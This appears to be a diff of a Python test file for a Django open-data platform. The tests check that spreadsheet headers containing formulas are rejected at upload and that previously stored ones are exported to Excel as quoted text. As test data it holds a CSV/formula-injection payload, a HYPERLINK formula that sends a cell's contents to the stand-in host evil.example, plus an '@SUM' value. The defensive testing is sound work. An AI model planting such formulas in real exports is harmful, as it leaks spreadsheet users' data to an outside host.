@@ -1,6 +1,7 @@
 """Column headers and sheet names reach Excel and CSV as text, never as a formula: a header
-``=HYPERLINK("http://evil.example/?x="&B2,"Klik")`` in the anonymous .xlsx download of an
-open dataset is a string cell with a quote before it, like any cell."""
+``=HYPERLINK("http://evil.example/?x="&B2,"Klik")`` is refused when a file is loaded, like a
+cell; and a dataset that holds one anyway (loaded before the check) downloads it as a
+string cell with a quote before it, like any cell."""
 
 from __future__ import annotations
 
@@ -10,10 +11,12 @@ import zipfile
 
 import pyarrow as pa
 import pytest
+from django.db import transaction
 from django.test import Client
+from django.utils import translation
 from openpyxl import Workbook, load_workbook
 
-from regiohub.datasets import formats
+from regiohub.datasets import formats, services
 from regiohub.datasets.tests.factories import make_dataset, upload
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'
@@ -49,10 +52,27 @@ def hostile_csv() -> str:
 
 
 @pytest.mark.django_db
+def test_a_formula_header_is_refused_at_load(region, steward):
+    dataset = make_dataset(region["KOR"], steward, access="open", slug="koppen")
+    with translation.override("en"):
+        load = upload(dataset, steward, hostile_csv())
+    assert load.state == "failed"
+    assert "column 1" in load.message and "formula" in load.message
+    assert HYPERLINK[:40] in load.message
+    assert dataset.current_version is None
+
+
+@pytest.mark.django_db
 def test_a_formula_header_downloads_as_text(region, steward):
     dataset = make_dataset(region["KOR"], steward, access="open", slug="koppen")
-    load = upload(dataset, steward, hostile_csv())
-    assert load.state == "done", load.message
+    schema = [  # as a dataset loaded before headers were checked holds them
+        {"name": name, "key": key, "type": "text", "unit": "", "role": "", "nullable": True}
+        for name, key in ((HYPERLINK, "klik"), ("@SUM(A1:A2)", "som"))
+    ]
+    rows = pa.table({"klik": ["Kortrijk", "Menen"], "som": ["1", "2"]})
+    with transaction.atomic():
+        services.publish(dataset, rows, mode="replace", schema=schema, primary_key=[])
+    dataset.refresh_from_db()
     assert [c["name"] for c in dataset.current_version.schema] == [HYPERLINK, "@SUM(A1:A2)"]
 
     answer = Client().get(f"/data/{dataset.slug}/download/?format=xlsx")
